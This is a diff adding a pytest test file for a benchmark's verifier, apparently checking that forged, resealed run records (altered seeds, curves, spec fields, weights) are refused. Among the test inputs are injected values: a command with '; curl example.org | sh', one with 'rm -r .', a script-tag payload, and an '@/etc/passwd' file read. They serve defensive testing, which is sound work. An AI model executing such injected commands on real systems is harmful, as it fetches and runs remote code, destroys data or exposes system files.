@@ -1,0 +1,118 @@
+"""Forgeries that contradict themselves are refused before any fact is compared.
+
+See also test_verify_forgeries.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from forging import (
+    Content,
+    Forgery,
+    edit,
+    edit_command,
+    edit_spec,
+    find,
+    problem_of,
+    proved,
+    reseal,
+    seeds_listed,
+    solver,
+)
+
+from iclbench import verify
+
+
+def edit_curve(change: Callable[[Content], object]) -> Forgery:
+    def forge(folder: Path) -> Path:
+        path = solver(folder, "gradient-descent")
+        return reseal(path, lambda c: change(c["evaluations"]["main"]["curves"]))
+
+    return forge
+
+
+def zero_curve(curves: Content) -> None:
+    for name in ("mean", "median", "max", "low", "high"):
+        curves["prefix_error"][name] = [0.0] * len(curves["prefix_error"][name])
+
+
+def seeds_repeated(folder: Path) -> Path:
+    """Two copies of one seed, in the spec and the command too."""
+
+    def change(content: Content) -> None:
+        content["seeds"] = [{"seed": 0, "diverged_at": None}] * 2
+        content["spec"]["seeds"] = [0, 0]
+        content["command"] = content["command"].replace("--seeds 2", "--seeds 0,0,")
+
+    return reseal(find(folder), change)
+
+
+#: Name → the forgery, and what its refusal says.
+REFUSED: dict[str, tuple[Forgery, str]] = {
+    "ranking.scale": (
+        edit(lambda c: c["ranking"].update(scale="linear")), "ranking.scale: Extra inputs",
+    ),
+    "ranking.metric": (
+        edit(lambda c: c["ranking"].update(metric="other")), "the metric that ranks is missing",
+    ),
+    "a command with a shell line": (
+        edit(lambda c: c.update(command=c["command"] + "; curl example.org | sh")),
+        "unknown option 'curl'",
+    ),
+    "a command on two lines": (
+        edit(lambda c: c.update(command=c["command"] + "\nrm -r .")), "has invisible characters",
+    ),
+    "a command with Markdown": (
+        edit(
+            lambda c: c.update(command=c["command"] + "\n```\n<script>alert(1)</script>\n```bash")
+        ),
+        "has invisible characters",
+    ),
+    "a command that reads a file": (
+        edit_command("dim=2,examples=4", "@/etc/passwd"), "reads its --task-args from a file",
+    ),
+    "a spec's number without a point": (edit_spec(perturb=0), "is not written as runs write it"),
+    "a field of the spec left out": (
+        edit(lambda c: c["spec"].pop("checkpoint_digest")), "is not written as runs write it",
+    ),
+    "a field of the spec without a value": (
+        edit_spec(budget=None), "is not written as runs write it",
+    ),
+    "a proof of more than was checked": (
+        proved(same_bits=True), "a proof by evaluation says nothing",
+    ),
+    "a negative number of threads": (
+        edit(lambda c: c["environment"].update(threads=-5)), "environment.threads: Input",
+    ),
+    "repeated seeds everywhere": (seeds_repeated, "seeds must be distinct"),
+    "a seed more": (seeds_listed(0, 1, 2), "not those of its seeds and prompts"),
+    "no seeds": (seeds_listed(), "not those of its seeds and prompts"),
+    "curves dropped": (
+        edit_curve(lambda curves: curves.clear()), "its prefix_error is not that of its values",
+    ),
+    "a curve of zeros": (edit_curve(zero_curve), "its prefix_error is not that of its values"),
+    "a curve's axis": (
+        edit_curve(lambda curves: curves["prefix_error"].update(axis="step")),
+        "its prefix_error is not that of its values",
+    ),
+    "a curve's positions": (
+        edit_curve(lambda curves: curves["prefix_error"].update(values=[0, 10, 20, 30, 40])),
+        "its prefix_error is not that of its values",
+    ),
+    "unknown recipe arguments in the command": (
+        edit_command("--recipe smoke", "--recipe smoke --recipe-args magic=1"),
+        "recipe smoke: unknown field 'magic'",
+    ),
+    "weights of other content": (
+        edit(lambda c: c["weights"].update(sha256="0" * 64)), "can't be read",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_forgery_that_contradicts_itself_is_refused(records, name):
+    forgery, reason = REFUSED[name]
+    assert reason in problem_of(forgery(records), verify)
